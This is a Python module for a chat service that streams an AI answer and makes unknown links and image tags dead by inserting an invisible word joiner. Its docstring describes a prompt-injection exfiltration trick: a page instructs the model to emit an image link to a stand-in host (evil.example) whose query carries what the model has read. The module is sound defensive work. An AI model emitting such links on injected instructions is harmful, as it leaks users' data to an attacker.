"""No link and no picture in an answer but to where the results or the user's own words lead.

A page can tell a model to write `![](https://evil.example/?q=...)` with what else it has read. A
chat that renders it fetches it, and what was read is gone, without a click. So an address that is
not known is left readable, and made dead: a word joiner, which nobody sees, goes in where it stops
being a link. Known are the addresses of this answer's results and those in the conversation, to the
letter: a known host with other words behind it could carry them out as well.

    ](https://evil.example/x)   ->  ]·(https·://evil.example/x)      · is the joiner
    https://evil.example        ->  https·://evil.example
    <img src=x>                 ->  <·img src=x>

Renderers differ in what they take for code, so only fences at the very beginning of a line are left
alone: there they all agree, once no tag can open a block of HTML. Reads the answer as it streams,
and holds back only what may be an address: MAX_HELD characters at most.
"""

import re
from collections.abc import Iterable

from app.chat.request import Message
from app.dialect.neutralise import JOINER

MAX_HELD = 2048
"""An address longer than this is not known."""

_URL = r"(?:(?:https?|ftp)://|www\.)[^\s<>\"`]*"
_FOUND = re.compile(rf"\][(:]\s*<?[^\s<>)\]]*|<[^\s<>]*|(?<![a-z0-9]){_URL}", re.IGNORECASE)
_BEGINNING = re.compile(
    rf"""(?: \] | \][(:]\s*<?[^\s>]* | <[^\s>]* | (?<![a-z0-9]){_URL}
    | (?<![a-z0-9]) (?: h | ht | htt | https?(?::/?)? | f | ft | ftp(?::/?)? | w{{1,3}} ) )\Z""",
    re.IGNORECASE | re.VERBOSE,
)
"""What one of those may begin with, at the end of the text so far."""
_SPECIAL = re.compile(
    r"[\]<`\r\n/]|www|:\Z|(?<![a-z0-9])(?:h|ht|htt|https?|f|ft|ftp|w{1,3})\Z", re.IGNORECASE
)
"""A text with none of these holds no address and ends in no beginning of one."""
_STARTS = frozenset(("h", "ht", "htt", "http", "https", "f", "ft", "ftp", "w", "ww", "www"))
_PLAIN_TARGET = re.compile(r"#[\w-]*|[\w.-]*")
"""A link within the page, or `handlers[i](event)`: leads nowhere else."""
_TAG = re.compile(
    r"</?(?:a|area|audio|base|body|button|embed|form|frame|html|iframe|image|img|input|link|math|"
    r"meta|object|picture|script|source|style|svg|track|video)\b|<[a-z][a-z0-9+.-]{1,31}:",
    re.IGNORECASE,
)
_BLOCK = re.compile(r"<[a-z!/?]", re.IGNORECASE)
_FENCE = re.compile(r"(`{3,})[^`]*\Z")
_MAYBE_FENCE = re.compile(r"`{0,2}\Z|`{3,}[^`]*\Z")
_LINE = re.compile(r"[^\r\n]*[\r\n]|[^\r\n]+\Z")
_CLOSING = ".,;:!?)]}'*_~"
_IN_TEXT = re.compile(_URL, re.IGNORECASE)
_LINK_TARGET = re.compile(r"\]\(\s*<?([^\s)>]+)")


class LinkReader:
    """Turns one answer's text into text whose unknown links are dead."""

    __slots__ = ("_begins", "_cut", "_fence", "_held", "_known", "_said", "broken")

    def __init__(self, known: Iterable[str]) -> None:
        """`known`: addresses that may be linked to; `allow` adds to them."""
        self.broken = 0
        """Links that were made dead."""
        self._known = {_plain(url) for url in known}
        self._held = ""
        self._fence = 0  # backticks that opened the fence we are in
        self._begins = True  # nothing of the current line has been given out
        self._cut = ""  # given out before it was seen whether it ends there
        self._said: list[str] = []  # pieces of the current line that were given out

    def allow(self, urls: Iterable[str]) -> None:
        """These may be linked to as well."""
        self._known.update(map(_plain, urls))

    def feed(self, text: str) -> str:
        """What `text` adds to the answer."""
        if self._cut and text:
            joins = text[0] in "(:[" if self._cut == "]" else not text[0].isspace()
            self._cut = ""
            text = f" {text}" if joins else text
        if not self._held and not self._begins:
            word = text.removeprefix(" ")  # most tokens are one, and need no pattern
            plain = word.isalpha() and word.isascii() and word.lower() not in _STARTS
            if plain or not _SPECIAL.search(text):
                self._say(text)
                return text
        return self._read(self._held + text, final=False)

    def finish(self) -> str:
        """What was held back. What may still follow, after a search, is not a part of it."""
        beginning = _BEGINNING.search(self._held)
        self._cut = beginning.group() if beginning else ""
        if self._cut.strip() in ("](", "]:"):
            self._cut = ""  # made dead, if it was to be a link
        return self._read(self._held, final=True)

    def _read(self, text: str, *, final: bool) -> str:
        self._held = ""
        shown = ""
        for match in _LINE.finditer(text):
            line = match.group()
            whole = line[-1] in "\r\n"
            if not whole and not final and len(line) < MAX_HELD and self._waits(line):
                self._held = line
                break
            shown += self._line(line, ended=whole or final)
        return shown

    def _waits(self, line: str) -> bool:
        """Whether more of a line must be seen before it is known if it is a fence."""
        if not self._begins:
            return False
        if self._fence:
            return not line.strip(" \t`")
        return bool(_MAYBE_FENCE.match(line))

    def _line(self, line: str, *, ended: bool) -> str:
        begins, body = self._begins, line.rstrip("\r\n")
        if begins:
            self._said.clear()
        self._begins = len(body) < len(line)
        if self._fence:
            ticks = body.strip(" \t")
            if begins and len(ticks) >= self._fence and not ticks.strip("`"):
                self._fence = 0
            return line
        if begins and ended and (fence := _FENCE.match(body)):
            self._fence = len(fence[1])
            return line
        if not ended and (held := _BEGINNING.search(body)) and len(body) - held.start() < MAX_HELD:
            self._held = body[held.start() :]
            body = body[: held.start()]
            self._begins = begins and not body.strip(" ")
            if self._begins:  # a line that has not begun is read again from its start
                self._held, body = body + self._held, ""
        shown = self._prose(body, begins) + line[len(line.rstrip("\r\n")) :]
        self._say(body)
        return shown

    def _say(self, text: str) -> None:
        self._said.append(text)
        if len(self._said) > MAX_HELD:
            self._said = ["".join(self._said)[-MAX_HELD:]]

    def _prose(self, text: str, begins: bool) -> str:
        found = list(_FOUND.finditer(text))
        if not found:
            return text
        before, pieces, last = "".join(self._said)[-MAX_HELD:], list[str](), 0
        for match in found:
            pieces.append(text[last : match.start()])
            starts = begins and not text[: match.start()].strip()
            pieces.append(self._judged(match.group(), starts, before + text[: match.start()]))
            last = match.end()
        return "".join([*pieces, text[last:]])

    def _judged(self, found: str, begins: bool, before: str) -> str:
        if found[0] == "<":
            inside = found[1:]
            if _IN_TEXT.match(inside) and self._is_known(inside):
                return found
            if not _TAG.match(found) and not (begins and _BLOCK.match(found)):
                return found[0] + self._nested(inside)
            self.broken += 1
            return found[0] + JOINER + self._nested(inside)
        if found[0] == "]":
            target = found[2:].lstrip().removeprefix("<")
            if target and (_PLAIN_TARGET.fullmatch(target) or self._is_known(target)):
                return found
            if found[1] == ":" and not _may_define(before):
                return found[:2] + self._nested(found[2:])
            self.broken += 1
            return found[0] + JOINER + found[1] + self._nested(found[2:])
        if self._is_known(found):
            return found
        self.broken += 1
        cut = found.index(":") if "://" in found else 3
        return found[:cut] + JOINER + found[cut:]

    def _nested(self, text: str) -> str:
        """What stands in a tag or a target, where only addresses are still looked for."""
        return _FOUND.sub(lambda match: self._judged(match.group(), False, "x["), text)

    def _is_known(self, url: str) -> bool:
        while url:
            if _plain(url) in self._known:
                return True
            if url[-1] not in _CLOSING:
                return False
            url = url[:-1]
        return False


def _may_define(before: str) -> bool:
    """Whether `]:` may end a label at a line's beginning, which gives a link its target."""
    label = re.search(r"(?<!\\)\[[^\[\]]*\Z", before)
    return label is None or not before[: label.start()].strip(" \t>*+-.)0123456789")


def in_conversation(messages: Iterable[Message]) -> set[str]:
    """Addresses that the user or the operator wrote, and those that earlier answers linked to."""
    found: set[str] = set()
    for message in messages:
        if message.role == "assistant":
            found.update(_LINK_TARGET.findall(message.content))
            continue
        for url in _IN_TEXT.findall(message.content):
            found.update((url, url.rstrip(_CLOSING)))
    return found


def _plain(url: str) -> str:
    """Addresses that mean the same page are equal; everything that could say something counts."""
    url = url.split("#", 1)[0]
    scheme, separator, rest = url.partition("://")
    host, slash, path = rest.partition("/")
    if not separator:
        return url
    return f"{scheme.lower()}://{host.lower()}{slash}{path}".rstrip("/")
